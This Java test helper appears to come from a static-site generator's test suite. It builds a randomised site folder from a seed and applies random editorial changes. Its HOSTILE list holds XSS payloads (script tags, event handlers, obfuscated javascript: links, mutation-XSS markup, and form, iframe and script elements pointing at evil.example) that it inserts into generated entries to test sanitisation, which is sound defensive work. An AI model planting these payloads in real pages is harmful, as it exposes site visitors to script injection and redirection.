package org.broadsheet;

import java.nio.file.Files;
import java.nio.file.Path;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** A site folder made from a seed, and edits to it: what laws are held against. */
public final class RandomSite {

    private static final List<String> WORDS = List.of("harbour", "council", "ferry", "bridge", "school", "river", "storm", "market", "library", "festival", "tunnel", "strike", "budget",
            "rescue", "orchard", "lighthouse", "railway", "vote", "court", "clinic", "wind", "quarry", "museum", "choir", "goal", "keeper", "flood", "dyke", "bakery", "theatre");
    private static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "<svg onload=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe src=\"//evil.example\"></iframe>", "![x](data:text/html;base64,PHNjcmlwdD4=)", "<style>*{display:none}</style>",
            "<form action=\"https://evil.example\"><input></form>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<p style=\"position:fixed\" onclick=\"x()\">y</p>",
            "</main></body><script src=//evil.example></script>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--><script>alert(1)</script>-->");
    private static final List<String> TOPICS = List.of("politics", "transport", "culture");

    private final Path folder;
    private final Random random;
    private int made;

    /** Writes the first state of the site. */
    public RandomSite(Path folder, long seed) {
        this.folder = folder;
        this.random = new Random(seed);
        Folders.write(folder.resolve("content/site.yaml"), "title: Random Digest " + seed + "\nurl: https://random.example/\npaginate: 4\n");
        Folders.write(folder.resolve("content/topics.yaml"), "- id: politics\n  name: Politics\n  keywords: [council, vote, budget]\n- id: transport\n  name: Transport\n  keywords: [ferry, railway]\n"
                + "- id: culture\n  name: Culture\n");
        Folders.write(folder.resolve("content/regions.yaml"), "- id: coast\n  name: The Coast\n- id: porthaven\n  name: Porthaven\n  parent: coast\n");
        Folders.write(folder.resolve("content/pages/about.md"), "---\ntitle: About\n---\n\nAbout us.\n");
        Folders.write(folder.resolve("content/assets/images/one.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"/>");
        for (int i = 0; i < 12; i++) {
            add();
        }
    }

    public Path folder() {
        return folder;
    }

    /** One random change, as an editor makes it: an entry added, changed, renamed or deleted, a setting, a vocabulary, a template. */
    public void edit() {
        List<Path> entries = entries();
        switch (random.nextInt(9)) {
            case 0, 1 -> add();
            case 2 -> change(pick(entries), text -> text + "\n" + sentence() + "\n");
            case 3 -> change(pick(entries), text -> text.replaceFirst("title: .*", "title: " + title()));
            case 4 -> rename(pick(entries));
            case 5 -> delete(pick(entries));
            case 6 -> change(folder.resolve("content/site.yaml"), text -> text.replaceFirst("paginate: \\d+", "paginate: " + (2 + random.nextInt(5))));
            case 7 -> change(folder.resolve("content/topics.yaml"), text -> text.replaceFirst("name: Transport\\w*", "name: Transport" + random.nextInt(100)));
            default -> Folders.write(folder.resolve("templates/404.ftlh"), "<p>Gone, " + random.nextInt(100) + "</p>");
        }
    }

    private void add() {
        String name = "entry-" + made++;
        int month = 1 + random.nextInt(5);
        String date = "2026-0" + month + "-" + (10 + random.nextInt(18)) + (random.nextBoolean() ? "" : "T0" + random.nextInt(10) + ":30:00+02:00");
        StringBuilder text = new StringBuilder("---\ntitle: " + title() + "\ndate: " + date + "\n");
        if (random.nextBoolean()) {
            text.append("topics: [").append(TOPICS.get(random.nextInt(3))).append("]\n");
        }
        if (random.nextBoolean()) {
            text.append("regions: [porthaven]\n");
        }
        text.append("tags: [").append(word()).append(", ").append(word()).append("]\nsource: {name: Outlet ").append(random.nextInt(3)).append(", rights: full}\n---\n\n");
        for (int i = 2 + random.nextInt(5); i > 0; i--) {
            text.append(sentence()).append(' ').append(sentence()).append("\n\n");
            if (random.nextInt(3) == 0) {
                text.append(HOSTILE.get(random.nextInt(HOSTILE.size()))).append("\n\n");
            }
        }
        Folders.write(folder.resolve("content/entries/2026/0" + month + "/" + name + ".md"), text.toString());
    }

    private String title() {
        return "The " + word() + " " + word() + " " + word() + " " + random.nextInt(1000);
    }

    private String sentence() {
        List<String> words = new ArrayList<>(List.of("The"));
        for (int i = 6 + random.nextInt(10); i > 0; i--) {
            words.add(word());
        }
        return String.join(" ", words) + ".";
    }

    private String word() {
        return WORDS.get(random.nextInt(WORDS.size()));
    }

    private List<Path> entries() {
        return Folders.read(folder.resolve("content/entries")).keySet().stream().map(folder.resolve("content/entries")::resolve).toList();
    }

    private Path pick(List<Path> entries) {
        return entries.get(random.nextInt(entries.size()));
    }

    private static void change(Path file, java.util.function.UnaryOperator<String> how) {
        try {
            Files.writeString(file, how.apply(Files.readString(file)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void rename(Path entry) {
        try {
            Files.move(entry, entry.resolveSibling("renamed-" + made++ + ".md"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void delete(Path entry) {
        try {
            if (entries().size() > 3) {
                Files.delete(entry);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
